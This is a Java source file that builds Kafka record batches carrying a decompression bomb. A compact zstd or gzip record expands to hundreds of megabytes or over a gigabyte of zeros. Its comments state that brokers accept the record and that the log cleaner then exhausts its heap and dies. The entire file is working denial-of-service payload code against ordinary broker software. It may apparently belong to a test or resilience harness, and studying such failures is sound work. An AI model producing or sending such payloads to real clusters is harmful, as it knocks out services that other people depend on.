// SPDX-License-Identifier: Apache-2.0
package io.kleaner.supervisor.broker;

import com.github.luben.zstd.ZstdOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;
import org.apache.kafka.common.record.TimestampType;
import org.apache.kafka.common.record.internal.CompressionType;
import org.apache.kafka.common.record.internal.DefaultRecordBatch;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.record.internal.RecordBatch;
import org.apache.kafka.common.utils.ByteUtils;

/**
 * One small record that decompresses far: zeros by zstd or gzip. A broker takes it, since it skips
 * values when it validates; its cleaner asks the heap for all of it at once, and dies.
 */
final class Bomb {

  /** Kills a cleaner whose heap is smaller; as a record it has about 35 KB. */
  static final int ZSTD_VALUE_BYTES = 1_100_000_000;

  /** Kills one in half a gigabyte; as a record it has about 400 KB. */
  static final int GZIP_VALUE_BYTES = 400_000_000;

  private static final int CHUNK = 1 << 20;
  private static final int SCRATCH = 64;

  private Bomb() {}

  /** A batch of one record, by zstd. */
  static MemoryRecords zstd(String key, long timestampMs) throws IOException {
    ByteArrayOutputStream compressed = new ByteArrayOutputStream();
    write(new ZstdOutputStream(compressed), key, ZSTD_VALUE_BYTES);
    return batch(compressed.toByteArray(), CompressionType.ZSTD, timestampMs);
  }

  /** A batch of one record, by gzip. */
  static MemoryRecords gzip(String key, long timestampMs) throws IOException {
    ByteArrayOutputStream compressed = new ByteArrayOutputStream();
    write(new GZIPOutputStream(compressed), key, GZIP_VALUE_BYTES);
    return batch(compressed.toByteArray(), CompressionType.GZIP, timestampMs);
  }

  /** In little memory. */
  private static void write(OutputStream compressing, String key, int valueBytes)
      throws IOException {
    try (DataOutputStream out = new DataOutputStream(compressing)) {
      byte[] head = head(key.getBytes(StandardCharsets.UTF_8), valueBytes);
      ByteBuffer length = ByteBuffer.allocate(SCRATCH);
      // No headers follow the value: one byte.
      ByteUtils.writeVarint(head.length + valueBytes + 1, length);
      out.write(length.array(), 0, length.position());
      out.write(head);
      byte[] zeros = new byte[CHUNK];
      for (int left = valueBytes; left > 0; left -= CHUNK) {
        out.write(zeros, 0, Math.min(left, CHUNK));
      }
      out.write(0);
    }
  }

  private static MemoryRecords batch(byte[] compressed, CompressionType codec, long timestampMs) {
    int size = DefaultRecordBatch.RECORD_BATCH_OVERHEAD + compressed.length;
    ByteBuffer buffer = ByteBuffer.allocate(size);
    buffer.position(DefaultRecordBatch.RECORD_BATCH_OVERHEAD);
    buffer.put(compressed);
    buffer.position(0);
    DefaultRecordBatch.writeHeader(
        buffer,
        0L,
        0,
        size,
        RecordBatch.MAGIC_VALUE_V2,
        codec,
        TimestampType.CREATE_TIME,
        timestampMs,
        timestampMs,
        RecordBatch.NO_PRODUCER_ID,
        RecordBatch.NO_PRODUCER_EPOCH,
        RecordBatch.NO_SEQUENCE,
        false,
        false,
        false,
        RecordBatch.NO_PARTITION_LEADER_EPOCH,
        1);
    buffer.position(0);
    return MemoryRecords.readableRecords(buffer);
  }

  /** Attributes, timestamp and offset deltas, the key, and the length of the value. */
  private static byte[] head(byte[] key, int valueBytes) {
    ByteBuffer head = ByteBuffer.allocate(key.length + SCRATCH);
    head.put((byte) 0);
    ByteUtils.writeVarlong(0, head);
    ByteUtils.writeVarint(0, head);
    ByteUtils.writeVarint(key.length, head);
    head.put(key);
    ByteUtils.writeVarint(valueBytes, head);
    byte[] bytes = new byte[head.position()];
    head.get(0, bytes);
    return bytes;
  }
}
